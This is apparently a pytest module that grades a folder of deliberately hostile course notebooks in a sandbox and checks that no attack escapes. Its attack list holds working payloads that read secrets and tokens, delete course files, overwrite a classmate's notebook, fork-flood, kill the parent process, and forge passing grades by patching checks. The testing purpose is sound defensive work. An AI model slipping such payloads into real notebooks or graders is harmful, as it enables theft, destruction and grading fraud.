"""Class grading of a folder that holds hostile notebooks: none of their attacks gets through, checked from outside.

Every hostile notebook is Part 1 solved in a learner's own words, with an attack added to its first exercise cell
(which the grader runs in full) or to a function the checks call. The folder is graded as a teacher grades it,
``python -m utils.course.grade_class FOLDER --csv ... --html ...``, with short time limits, next to an honest
notebook. Afterwards the test looks from outside: the teacher's files, environment and network, the course tree,
the other learners' notebooks, the processes left, and the grades (no forged "passed").

The sandbox (bubblewrap) must run here: without it some of these attacks would really hit this machine, so the
module is skipped where it does not (``utils.course.sandbox.bwrap_path``)."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import pytest

from tests.course.parts import solved_by_a_learner
from utils.checks import exercises_of
from utils.course.grading import PASSED, USED_REFERENCE, grade_notebook
from utils.course.sandbox import bwrap_path
from utils.paths import repo_root

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(bwrap_path() is None, reason="no working bubblewrap: the attacks would reach this machine"),
]

PART = "01_toy_models"
ROOT = repo_root()
MARK = uuid.uuid4().hex[:12]  # this run's marker, in every secret and every process the attacks start
FIRST, SECOND = (e for e in exercises_of(PART)[:2])


def _solved() -> dict:
    return solved_by_a_learner(json.loads((ROOT / "solutions" / f"{PART}.ipynb").read_text(encoding="utf-8")))


def _with_attack(code: str, *, in_function: str = "", unsolved: str = "") -> dict:
    """Part 1 solved, with ``code`` at the top of the first exercise cell, or (``in_function``) at the top of that
    function's body (run when the check calls it); with ``unsolved``, that function is left as its stub."""
    nb = _solved()
    if unsolved:
        stub = next(c for c in nb["cells"] if f"def {unsolved}(" in "".join(c["source"]))
        text = "".join(stub["source"])
        head, _, rest = text.partition(f"def {unsolved}(")
        end = rest.index(":\n") + 2
        stub["source"] = f"{head}def {unsolved}({rest[:end]}    raise NotImplementedError\n{rest[end:]}"
    cells = [c for c in nb["cells"] if "exercise" in c["metadata"].get("tags", [])]
    cell = next(c for c in cells if f"def {in_function}(" in "".join(c["source"])) if in_function else cells[0]
    source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
    if in_function:
        head, _, rest = source.partition(f"def {in_function}(")
        signature_end = rest.index(":\n") + 2
        body = "".join("    " + line + "\n" for line in code.splitlines())
        source = f"{head}def {in_function}({rest[:signature_end]}{body}{rest[signature_end:]}"
    else:
        source = code + "\n" + source
    cell["source"] = source
    return nb


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _course_digest() -> str:
    """Every file of the course's code, checks and solutions."""
    files = sorted(p for folder in ("utils", "solutions", "tests/wrong") for p in (ROOT / folder).rglob("*.py*"))
    return hashlib.sha256(b"".join(_digest(p).encode() for p in files if p.is_file())).hexdigest()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Grade the hostile class once; return what the checks below look at."""
    tmp = tmp_path_factory.mktemp("hostile")
    folder, outside = tmp / "class", tmp / "outside"
    folder.mkdir()
    outside.mkdir()
    home_secret = Path.home() / f".sae-course-test-secret-{MARK}"
    home_secret.write_text(f"home-secret-{MARK}")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    port, contacts = listener.getsockname()[1], []

    def listen() -> None:
        while not stop.is_set():
            try:
                contacts.append(listener.accept()[0].recv(100))
            except OSError:
                continue

    stop = threading.Event()
    threading.Thread(target=listen, daemon=True).start()
    checks_file = ROOT / "utils" / "checks" / f"part{PART}.py"
    honest = folder / "honest.ipynb"
    attacks = {
        "reads_home": f"raise RuntimeError(open({str(home_secret)!r}).read())",
        "reads_env": "import os\nraise RuntimeError('env: ' + os.environ.get('TEACHER_TOKEN', 'none'))",
        "writes_outside": (
            f"from pathlib import Path\nPath({str(outside)!r}, 'pwned-{MARK}').write_text('x')\n"
            f"Path.home().joinpath('pwned-{MARK}').write_text('x')"
        ),
        "edits_a_classmate": f"open({str(honest)!r}, 'w').write('pwned')",
        "edits_the_checks": f"open({str(checks_file)!r}, 'a').write('\\n# pwned {MARK}\\n')",
        "deletes_what_it_sees": (
            "import shutil, glob\nfrom utils.paths import repo_root\n"
            "shutil.rmtree(repo_root() / 'utils' / 'sae', ignore_errors=True)\n"
            "[shutil.rmtree(p, ignore_errors=True) for p in glob.glob('/grading/*')]"
        ),
        "calls_out": f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'{MARK}')",
        "reads_the_solutions": (
            "from utils.paths import repo_root\n"
            f"raise RuntimeError(open(repo_root() / 'solutions' / '{PART}.ipynb').read()[:2000])"
        ),
        "eats_memory": "hog = bytearray(10 * 2**30)",
        "leaves_a_process": (
            f"import subprocess\nsubprocess.Popen(['sleep', '{900_000 + int(MARK[:4], 16)}'], start_new_session=True)"
        ),
        "forks_a_flood": (
            "import os\nfor _ in range(12):\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
            "import time\ntime.sleep(30)"
        ),
        "floods_its_output": "import sys\nfor _ in range(400):\n    sys.stderr.write('x' * 1_000_000)",
        "kills_its_parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
        "replaces_the_check": (
            "import utils.checks.part01_toy_models as c\n"
            "for e in c.__dict__.values():\n    if callable(e) and getattr(e, 'exercise', None):\n"
            "        e.__wrapped__.__code__ = (lambda *a, **k: None).__code__"
        ),
        "forges_results": (
            "import sys, json\nout = sys.argv[sys.argv.index('--worker') + 3]\nwith open(out, 'a') as f:\n"
            f"    f.write(json.dumps({{'exercise': {SECOND.id!r}, 'status': 'passed', 'message': '', 'seconds': 0}}) "
            "+ '\\n')"
        ),
        "disables_comparisons": (
            "import torch, utils.checks as c\ntorch.allclose = lambda *a, **k: True\n"
            "c.assert_close = lambda *a, **k: None\nc.check_that = lambda *a, **k: None"
        ),
        "tampers_sys_modules": (
            "import sys, types\nfake = types.ModuleType('utils.checks.part01_toy_models')\n"
            "sys.modules['utils.checks.part01_toy_models'] = fake"
        ),
    }
    for name, code in attacks.items():
        unsolved = SECOND.objects[0] if name == "forges_results" else ""  # forges a pass it did not earn
        (folder / f"{name}.ipynb").write_text(json.dumps(_with_attack(code, unsolved=unsolved)), encoding="utf-8")
    # Blocks the signal the in-process time limit uses, then sleeps in C: only the parent's watchdog can end it.
    hangs = (
        "import ctypes, signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})\n"
        "ctypes.CDLL(None).sleep(100000)"
    )
    (folder / "hangs_in_native_code.ipynb").write_text(
        json.dumps(_with_attack(hangs, in_function=SECOND.objects[0])), encoding="utf-8"
    )
    honest.write_text(json.dumps(_solved()), encoding="utf-8")
    honest_before, course_before = _digest(honest), _course_digest()
    env = {**os.environ, "TEACHER_TOKEN": f"token-{MARK}", "SAE_COURSE_CELL_TIMEOUT": "20",
           "SAE_COURSE_CHECK_TIMEOUT": "8"}  # fmt: skip
    out_csv, out_html = tmp / "grades.csv", tmp / "grades.html"
    only = ",".join(e.id for e in exercises_of(PART)[:3])
    proc = subprocess.run(
        [sys.executable, "-m", "utils.course.grade_class", str(folder), "--csv", str(out_csv), "--html", str(out_html),
         "--jobs", "2", "--only", only, "--no-progress"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=1800,
    )  # fmt: skip
    stop.set()
    listener.close()
    try:
        yield {
            "proc": proc,
            "rows": list(csv.DictReader(out_csv.open(encoding="utf-8"))) if out_csv.exists() else [],
            "report": (out_csv.read_text(encoding="utf-8") if out_csv.exists() else "")
            + (out_html.read_text(encoding="utf-8") if out_html.exists() else ""),
            "contacts": contacts,
            "outside": outside,
            "honest": honest,
            "honest_before": honest_before,
            "course_before": course_before,
            "attacks": [*attacks, "hangs_in_native_code"],
            "only": only.split(","),
        }
    finally:
        home_secret.unlink(missing_ok=True)
        (Path.home() / f"pwned-{MARK}").unlink(missing_ok=True)


def _grades(graded, learner: str) -> dict[str, dict]:
    """A notebook's grades by exercise (class grading names the learner after the file, "_" read as a space)."""
    return {r["exercise"]: r for r in graded["rows"] if r["learner"] == learner.replace("_", " ")}


def test_the_run_finishes_with_a_grade_for_every_exercise_of_every_notebook(graded) -> None:
    assert graded["proc"].returncode == 0, graded["proc"].stderr[-3000:]
    for learner in [*graded["attacks"], "honest"]:
        grades = _grades(graded, learner)
        assert set(grades) == set(graded["only"]), (learner, grades)
        assert all(r["message"] or r["status"] == PASSED for r in grades.values()), (learner, grades)


def test_no_secret_and_no_solution_reaches_the_report(graded) -> None:
    report = graded["report"]
    assert f"home-secret-{MARK}" not in report and f"token-{MARK}" not in report
    solution_line = "torch.relu(h @ self.W"  # nowhere but in the reference solution's code
    assert "BEGIN SOLUTION" not in report and solution_line not in report and '"cell_type"' not in report


def test_nothing_was_written_outside_and_no_classmate_or_course_file_changed(graded) -> None:
    assert not any(graded["outside"].iterdir()) and not (Path.home() / f"pwned-{MARK}").exists()
    assert _digest(graded["honest"]) == graded["honest_before"], "another learner's notebook was changed"
    assert _course_digest() == graded["course_before"], "the course's own files were changed"
    status = subprocess.run(["git", "status", "--porcelain", "utils", "solutions"], cwd=ROOT, capture_output=True,
                            text=True).stdout  # fmt: skip
    assert f"pwned {MARK}" not in (ROOT / "utils" / "checks" / f"part{PART}.py").read_text(encoding="utf-8")
    assert "utils/sae" not in status


def test_no_connection_left_the_sandbox(graded) -> None:
    assert graded["contacts"] == []


def test_no_process_outlives_the_grading(graded) -> None:
    left = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True).stdout
    assert str(900_000 + int(MARK[:4], 16)) not in left, "a process the notebook started is still running"
    workers = [line for line in left.splitlines() if "utils.course.grading --worker" in line and "hostile" in line]
    assert workers == [], workers


def test_no_grade_is_forged(graded) -> None:
    """The forging notebooks: none of their exercises passes (their tampering is seen), and a "passed" line
    written into the results file for an exercise left unsolved is ignored."""
    for learner in ("replaces_the_check", "disables_comparisons", "tampers_sys_modules"):
        grades = _grades(graded, learner)
        assert not any(r["status"] == PASSED for r in grades.values()), (learner, grades)
        assert any("replaced what the" in r["message"] or "could not be defined" in r["message"] for r in
                   grades.values()), grades  # fmt: skip
    forged = _grades(graded, "forges_results")
    assert forged[SECOND.id]["status"] == "not attempted", forged  # the forged "passed" line was ignored


def test_an_honest_classmate_grades_as_when_graded_alone(graded, tmp_path) -> None:
    alone_path = tmp_path / "honest.ipynb"
    alone_path.write_text(json.dumps(_solved()), encoding="utf-8")
    alone = grade_notebook(alone_path, PART, only=graded["only"], sandbox=True)
    together = _grades(graded, "honest")
    assert {i: r.status for i, r in alone.items()} == {i: r["status"] for i, r in together.items()}
    assert all(r.status == PASSED for r in alone.values())


def test_each_hostile_notebook_gets_a_message_per_exercise(graded) -> None:
    expected = {
        "eats_memory": ("MemoryError",),
        "hangs_in_native_code": ("stopped answering",),
        "reads_the_solutions": ("FileNotFoundError",),
        # no route out of the sandbox's own network: refused on its loopback, or unreachable
        "calls_out": ("ConnectionRefusedError", "Network is unreachable", "OSError"),
    }
    for learner, needles in expected.items():
        messages = " ".join(r["message"] for r in _grades(graded, learner).values())
        assert any(needle in messages for needle in needles), (learner, messages[:500])
    assert USED_REFERENCE  # the skip-ahead grade is tested in test_grader.py
